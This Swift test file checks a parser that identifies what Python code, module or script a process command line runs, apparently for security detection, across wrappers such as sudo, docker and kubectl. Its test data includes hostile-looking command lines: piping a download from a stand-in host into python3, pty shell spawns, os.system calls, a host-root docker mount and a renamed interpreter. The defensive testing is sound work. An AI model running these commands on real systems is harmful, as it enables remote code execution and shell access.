// SPDX-License-Identifier: Apache-2.0
import Enrichment
import Testing

/// A command line and what it makes an interpreter run; `value` is the script, module or code.
struct InvocationCase: Sendable, CustomTestStringConvertible {
    var image: String
    var line: String
    var source: PythonInvocation.Source?
    var value: String?
    var options: [String]
    var wrappers: [String]

    init(
        _ image: String, _ line: String, _ source: PythonInvocation.Source?, _ value: String? = nil,
        _ options: [String] = [], wrappers: [String] = []
    ) {
        (self.image, self.line, self.source, self.value) = (image, line, source, value)
        (self.options, self.wrappers) = (options, wrappers)
    }

    var testDescription: String { line }
}

private let python = "/usr/bin/python3.11"

@Suite struct PythonInvocationTests {
    @Test(arguments: [
        // Options, as CPython reads them.
        InvocationCase(python, "python3 -c import os; os.system('id')", .command, "import os; os.system('id')"),
        InvocationCase(python, "python3 -cimport os", .command, "import os"),
        InvocationCase(python, "python3 -Ic print(1)", .command, "print(1)", ["-I"]),
        InvocationCase(python, "python3 -Bc print(1) a b", .command, "print(1) a b", ["-B"]),
        InvocationCase(python, "python3 -uIm http.server 8000", .module, "http.server", ["-u", "-I"]),
        InvocationCase(python, "python3 -mpty", .module, "pty"),
        InvocationCase(python, "python3 -W ignore script.py", .file, "script.py", ["-W ignore"]),
        InvocationCase(python, "python3 -Wignore script.py", .file, "script.py", ["-W ignore"]),
        InvocationCase(python, "python3 -X dev -c pass", .command, "pass", ["-X dev"]),
        InvocationCase(python, "python3 -Xdev -c pass", .command, "pass", ["-X dev"]),
        InvocationCase(python, "python3 -bb -OO x.py", .file, "x.py", ["-b", "-b", "-O", "-O"]),
        InvocationCase(python, "python3 -SsE x.py -c no", .file, "x.py", ["-S", "-s", "-E"]),
        InvocationCase(
            python, "python3 --check-hash-based-pycs always x.py", .file, "x.py", ["--check-hash-based-pycs always"]),
        InvocationCase(python, "python3 -- -x.py", .file, "-x.py"),
        InvocationCase(python, "python3 -V", nil, nil, ["-V"]),
        InvocationCase(python, "python3 --version", nil, nil, ["--version"]),
        InvocationCase(python, "python3 -V -c print(1)", nil, nil, ["-V"]),
        InvocationCase(python, "python3 -h", nil, nil, ["-h"]),
        InvocationCase(python, "python3 -Z x.py", nil),
        InvocationCase(python, "python3 -c", nil),
        InvocationCase(python, "python3 -i", .interactive, nil, ["-i"]),
        InvocationCase(python, "python3 -i x.py", .file, "x.py", ["-i"]),
        InvocationCase(python, "python3", .stdin),
        InvocationCase(python, "python3 -", .stdin),
        InvocationCase(python, "python3 - arg", .stdin),
        InvocationCase(python, "python3 -u -", .stdin, nil, ["-u"]),
        InvocationCase(python, "python3 /dev/stdin", .stdin, "/dev/stdin"),
        InvocationCase(python, "python3 /proc/self/fd/0", .stdin, "/proc/self/fd/0"),
        InvocationCase(python, "python3 /dev/fd/63", .descriptor, "/dev/fd/63"),
        InvocationCase(python, "python3 /proc/1234/fd/3", .descriptor, "/proc/1234/fd/3"),
        InvocationCase(python, "python3 ./run.py --flag", .file, "./run.py"),
        InvocationCase(python, "python3  script.py", .file, "script.py"),
        InvocationCase(
            python, "python3 -c \"import pty; pty.spawn('/bin/sh')\"", .command, "import pty; pty.spawn('/bin/sh')"),
        InvocationCase(python, "python3 -c 'print(1)' --flag", .command, "print(1)"),
        InvocationCase(python, "python3 -c 'a'.join(x)", .command, "'a'.join(x)"),
        // Names of interpreters.
        InvocationCase("/usr/bin/python2.7", "python2.7 -3 -Q new x.py", .file, "x.py", ["-3", "-Q new"]),
        InvocationCase("/usr/local/bin/python3.13t", "python3.13t -c pass", .command, "pass"),
        InvocationCase("/usr/bin/python3.11-dbg", "python3-dbg -c pass", .command, "pass"),
        InvocationCase("/home/u/.venv/bin/python", "/home/u/.venv/bin/python app.py", .file, "app.py"),
        InvocationCase("/opt/conda/bin/python3.10", "python app.py", .file, "app.py"),
        InvocationCase("/opt/pypy/bin/pypy3.10", "pypy3.10 -c pass", .command, "pass"),
        InvocationCase("/usr/bin/pypy3-c", "pypy3 x.py", .file, "x.py"),
        InvocationCase(
            "/usr/libexec/platform-python3.6", "/usr/libexec/platform-python -Es /usr/sbin/tuned", .file,
            "/usr/sbin/tuned", ["-E", "-s"]),
        InvocationCase("/usr/bin/ipython3", "ipython3 --no-banner -c pass", .command, "pass", ["--no-banner"]),
        InvocationCase(python, "[kworker/0:1] -c pass", .command, "pass"),
        InvocationCase("/usr/bin/python3.11 (deleted)", "python3 x.py", .file, "x.py"),
        InvocationCase("/memfd:x (deleted)", "python3 -c pass", .command, "pass"),
        InvocationCase("", "python3 -c pass", .command, "pass"),
        // Windows.
        InvocationCase(
            #"C:\Python311\python.exe"#, #""C:\Python311\python.exe" -c "import os; os.system(\"id\")""#, .command,
            #"import os; os.system("id")"#),
        InvocationCase(#"C:\Python311\pythonw.exe"#, #"pythonw.exe "C:\my dir\x.py" a"#, .file, #"C:\my dir\x.py"#),
        InvocationCase(#"C:\Python311\PYTHON.EXE"#, #"python  -m   http.server"#, .module, "http.server"),
        InvocationCase(#"C:\Windows\py.exe"#, #"py -3.11 -c "pass""#, .command, "pass", ["-3.11"]),
        InvocationCase(#"C:\Windows\py.exe"#, #"py -V:3.12 x.py"#, .file, "x.py", ["-V:3.12"]),
        InvocationCase(#"C:\Windows\py.exe"#, #"py -0p"#, nil, nil, ["-0p"]),
        InvocationCase(
            #"C:\Windows\System32\cmd.exe"#, #"cmd.exe /c "cd x && python -c "pass"""#, .command, "pass",
            wrappers: ["cmd"]),
        InvocationCase(#"C:\Windows\System32\cmd.exe"#, #"cmd /c python a.py"#, .file, "a.py", wrappers: ["cmd"]),
        // Programs that start the interpreter.
        InvocationCase("/usr/bin/sudo", "sudo -u root -E python3 -c pass", .command, "pass", wrappers: ["sudo"]),
        InvocationCase("/usr/bin/sudo", "sudo A=1 --user root -- python3 x.py", .file, "x.py", wrappers: ["sudo"]),
        InvocationCase("/usr/bin/doas", "doas -u www python3 -c pass", .command, "pass", wrappers: ["doas"]),
        InvocationCase("/usr/bin/su", "su - www -c python3 -c 'pass'", .command, "pass", wrappers: ["su"]),
        InvocationCase("/usr/bin/timeout", "timeout -k 1 5 python3 -c pass", .command, "pass", wrappers: ["timeout"]),
        InvocationCase(
            "/usr/bin/timeout", "timeout --signal=KILL 5 nice -n 5 python3 -m pty", .module, "pty",
            wrappers: ["timeout", "nice"]),
        InvocationCase("/usr/bin/nohup", "nohup setsid python3 x.py", .file, "x.py", wrappers: ["nohup", "setsid"]),
        InvocationCase("/usr/bin/stdbuf", "stdbuf -oL python3 x.py", .file, "x.py", wrappers: ["stdbuf"]),
        InvocationCase("/usr/bin/taskset", "taskset -c 0,1 python3 x.py", .file, "x.py", wrappers: ["taskset"]),
        InvocationCase("/usr/bin/ionice", "ionice -c 3 python3 x.py", .file, "x.py", wrappers: ["ionice"]),
        InvocationCase("/usr/sbin/chroot", "chroot /mnt python3 x.py", .file, "x.py", wrappers: ["chroot"]),
        InvocationCase("/usr/bin/unshare", "unshare -Urm python3 -c pass", .command, "pass", wrappers: ["unshare"]),
        InvocationCase(
            "/usr/bin/nsenter", "nsenter -t 1 -m -u -- python3 -c pass", .command, "pass", wrappers: ["nsenter"]),
        InvocationCase(
            "/usr/bin/strace", "strace -f -o /tmp/x python3 -c pass", .command, "pass", wrappers: ["strace"]),
        InvocationCase("/usr/bin/env", "env -i A=1 python3 -c pass", .command, "pass", wrappers: ["env"]),
        InvocationCase("/usr/bin/env", "/usr/bin/env -S python3 -u x.py", .file, "x.py", ["-u"], wrappers: ["env"]),
        InvocationCase("/usr/bin/env", "env -u HOME -C /tmp python3 x.py", .file, "x.py", wrappers: ["env"]),
        InvocationCase("/bin/busybox", "timeout 5 python3 x.py", .file, "x.py", wrappers: ["timeout"]),
        InvocationCase("/usr/bin/xargs", "xargs -n 1 -P 4 python3 -c pass", .command, "pass", wrappers: ["xargs"]),
        InvocationCase(
            "/usr/bin/script", "script -qec python3 -c 'pass' /dev/null", .command, "pass", wrappers: ["script"]),
        InvocationCase(
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /usr/bin/python3 -c pass",
            .command, "pass", wrappers: ["ld-linux-x86-64.so.2"]),
        InvocationCase(
            "/usr/bin/dash", "sh -c python3 -c \"import os; os.system('id')\"", .command, "import os; os.system('id')",
            wrappers: ["sh"].map { _ in "dash" }),
        InvocationCase(
            "/usr/bin/bash", "bash -lc cd /tmp && exec python3 -u x.py >/dev/null 2>&1", .file, "x.py", ["-u"],
            wrappers: ["bash", "exec"]),
        InvocationCase("/usr/bin/bash", "bash -c curl -s http://h/p.py | python3", .stdin, nil, wrappers: ["bash"]),
        InvocationCase(
            "/usr/bin/bash", "bash -c X=1 timeout 5 python3 -m pty & wait", .module, "pty",
            wrappers: ["bash", "timeout"]),
        InvocationCase(
            "/usr/bin/bash", "bash -o pipefail -ec (python3 -c 'pass')", .command, "pass", wrappers: ["bash"]),
        InvocationCase(
            "/usr/bin/bash", "bash /home/u/.pyenv/shims/python3 -c pass", .command, "pass", wrappers: ["bash"]),
        InvocationCase("/usr/bin/uv", "uv run --with requests python -c pass", .command, "pass", wrappers: ["uv"]),
        InvocationCase("/usr/bin/uv", "uv run tool.py --x", .file, "tool.py", wrappers: ["uv"]),
        InvocationCase("/opt/conda/bin/conda", "conda run -n x python -m pty", .module, "pty", wrappers: ["conda"]),
        InvocationCase(
            "/usr/bin/docker", "docker exec -it -u 0 web python3 -c pass", .command, "pass", wrappers: ["docker"]),
        InvocationCase(
            "/usr/bin/docker", "docker run --rm -v /:/host --name x python:3 python -c pass", .command, "pass",
            wrappers: ["docker"]),
        InvocationCase(
            "/usr/bin/kubectl", "kubectl exec -n a pod -c b -- python3 -m pty", .module, "pty", wrappers: ["kubectl"]),
    ])
    func `a command line tells what Python runs`(expected: InvocationCase) throws {
        let found = try #require(PythonInvocation.parse(image: expected.image, commandLine: expected.line))
        #expect(found.source == expected.source)
        #expect((found.code ?? found.module ?? found.script) == expected.value)
        #expect(found.options == expected.options)
        #expect(found.wrappers == expected.wrappers)
    }

    @Test(arguments: [
        ("/usr/bin/python3-config", "python3-config --cflags"), ("/usr/bin/vim", "vim python3"),
        ("/usr/bin/bash", "bash -c echo python3"), ("/usr/bin/apt", "apt install python3"),
        ("/usr/bin/sudo", "sudo -l"),
        ("/usr/bin/bash", "python3 -c pass"), ("/usr/bin/pythonista", "pythonista x"), ("/usr/bin/perl", "perl x.py"),
        ("/usr/bin/timeout", "timeout 5 ls python"), ("", ""), ("/usr/bin/env", "env"),
        ("/usr/bin/docker", "docker run python"),
    ])
    func `a program that runs no Python is left alone`(image: String, line: String) {
        #expect(PythonInvocation.parse(image: image, commandLine: line) == nil)
    }

    @Test func `a renamed interpreter is known by its version resource`() {
        let found = PythonInvocation.parse(
            image: #"C:\Users\Public\svchost.exe"#, commandLine: #"svchost.exe -c "pass""#,
            originalFileName: "python.exe")
        #expect(found?.code == "pass")
    }

    @Test func `a terminal makes an interpreter without arguments interactive, a dash does not`() {
        #expect(
            PythonInvocation.parse(image: python, commandLine: "python3", hasTerminal: true)?.source == .interactive)
        #expect(PythonInvocation.parse(image: python, commandLine: "python3 -", hasTerminal: true)?.source == .stdin)
        let piped = PythonInvocation.parse(image: "/bin/sh", commandLine: "sh -c cat x | python3", hasTerminal: true)
        #expect(piped?.source == .stdin)
    }

    @Test func `arguments known one by one keep their spaces`() {
        let found = PythonInvocation.parse(
            image: python, arguments: ["python3", "-I", "/opt/my tool/run me.py", "-c", "x"])
        #expect(found?.script == "/opt/my tool/run me.py")
        let code = PythonInvocation.parse(image: python, arguments: ["python3", "-c", "a b", "rest"])
        #expect(code?.code == "a b")
    }

    @Test(arguments: [
        String(repeating: "sudo ", count: 50_000) + "python3", "sh -c " + String(repeating: "sh -c ", count: 50_000),
        "bash -c " + String(repeating: "'", count: 300_001), "env -S " + String(repeating: "-S x ", count: 20_000),
        "sh -c " + String(repeating: "(", count: 300_000) + "python3",
        "python3 -" + String(repeating: "I", count: 300_000),
        String(repeating: " ", count: 300_000), "cmd /c " + String(repeating: "cmd /c ", count: 3000),
    ])
    func `hostile command lines end soon`(line: String) {
        let start = ContinuousClock.now
        for image in ["", "/bin/sh", "/usr/bin/env", python, #"C:\Windows\cmd.exe"#] {
            _ = PythonInvocation.parse(image: image, commandLine: line)
        }
        #expect(ContinuousClock.now - start < .seconds(10))
    }
}
